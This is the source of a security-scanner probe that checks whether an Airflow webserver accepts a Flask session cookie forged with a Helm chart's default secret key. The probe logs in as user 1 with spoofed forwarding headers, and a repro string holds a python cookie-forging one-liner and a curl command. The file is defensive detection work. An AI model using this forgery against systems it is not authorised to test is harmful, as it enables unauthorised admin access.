import { isAuthenticatedHome, looksLikeAirflow3 } from "../network-auth/airflow-login.ts";
import { defineProbe, deployedSecretsOf, portOf, redact, runNetworkCheck } from "../probe-kit.ts";
import { baseUrl, describeExchange, http } from "../web/http-client.ts";
import { sessionCookie } from "../web/set-cookie.ts";
import { loggedInSession, readFlaskSession, signFlaskSession } from "./forge/flask-session-cookie.ts";

/** Where the forged request claims to come from; Flask-Login binds sessions to it. */
const FORGED_FROM = "10.66.0.7";
const FORGED_AGENT = "chartprobe/1";

export const sessionCookieForgery = defineProbe({
  id: "session-cookie-forgery",
  title: "A session cookie forged with the chart's default secret key logs in",
  family: "secrets",
  severity: "critical",
  cwe: ["CWE-321", "CWE-565"],
  attack: ["T1606.001", "T1552.001"],
  remediation:
    "Set a random, static webserver secret key from an existing Secret; never ship one in the chart's values.",
  valuesKeys: ["airflow.webserverSecretKey", "webserverSecretKey"],
  description:
    "Signs a Flask session cookie (itsdangerous, salt cookie-session) with the default webserver secret key claiming user id 1, and fetches /home with it: an authenticated page proves the forgery works.",
  vantages: ["runner"],
  component: "webserver",
  appliesTo: (_s, t) =>
    t.components.webserver !== undefined && t.knownDefaults.webserverSecretKey !== undefined,
  run: (ctx, self) => {
    const key = ctx.target.knownDefaults.webserverSecretKey;
    const port = portOf(ctx.target, "webserver", { names: ["web", "http"], protocol: "http", number: 8080 });
    return runNetworkCheck({
      meta: self,
      ctx,
      component: "webserver",
      port: key ? port : undefined,
      check: async (ep) => {
        if (!key)
          return { verdict: "skipped", summary: "the target declares no default webserver secret key" };
        const base = baseUrl(ep, port);
        if (await looksLikeAirflow3(base))
          // Airflow 3 authenticates the UI with JWTs from its API server, not Flask session cookies.
          return {
            verdict: "inconclusive",
            summary: "Airflow 3 does not use Flask session cookies for the UI; this forgery does not apply",
          };
        const lines: string[] = [];
        const login = await http(base, { path: "/login/" });
        const own = sessionCookie(login.setCookies);
        const name = own?.name ?? "session";
        let serverSide = false;
        if (own) {
          try {
            readFlaskSession(own.value);
            lines.push(`the server's own ${name} cookie is a client-side signed Flask session`);
          } catch {
            serverSide = true;
            lines.push(
              `the server's own ${name} cookie is not a Flask client-side session (server-side session backend)`,
            );
          }
        }
        const anon = await http(base, { path: "/home" });
        lines.push(`${describeExchange({ path: "/home" }, anon)} (no cookie)`);
        if (isAuthenticatedHome(anon))
          return {
            verdict: "inconclusive",
            summary: "/home is authenticated without any cookie, so a forged one proves nothing",
            evidence: [{ label: "session forgery", content: lines.join("\n") }],
          };
        const cookie = signFlaskSession(
          loggedInSession("1", FORGED_FROM, FORGED_AGENT),
          key,
          Math.floor(Date.now() / 1000),
        );
        const headers = {
          Cookie: `${name}=${cookie}`,
          "X-Forwarded-For": FORGED_FROM,
          "User-Agent": FORGED_AGENT,
        };
        const forged = await http(base, { path: "/home", headers });
        const authed = isAuthenticatedHome(forged);
        lines.push(
          `${describeExchange({ path: "/home" }, forged)} (Cookie: ${name}=<forged: _user_id 1, _fresh true>)${authed ? " → authenticated page" : ""}`,
        );
        const evidence = [
          { label: "session forgery", content: redact(lines.join("\n"), deployedSecretsOf(ctx)) },
        ];
        const repro = `${ep.describe}\n# COOKIE: python3 -c "from flask.sessions import SecureCookieSessionInterface as S; from flask import Flask; a=Flask('x'); a.secret_key='<chart default webserver secret key>'; print(S().get_signing_serializer(a).dumps({'_user_id':'1','_fresh':True}))"\ncurl -s -o /dev/null -w '%{http_code}\\n' -b "${name}=$COOKIE" ${base}/home`;
        if (authed)
          return {
            verdict: "vulnerable",
            summary: "a cookie forged with the default secret key opened /home as user 1",
            evidence,
            repro,
          };
        return {
          verdict: "secure",
          summary: `the forged cookie was not accepted (${forged.status})${serverSide ? "; sessions are kept server-side" : ""}`,
          evidence,
          repro,
        };
      },
    });
  },
});
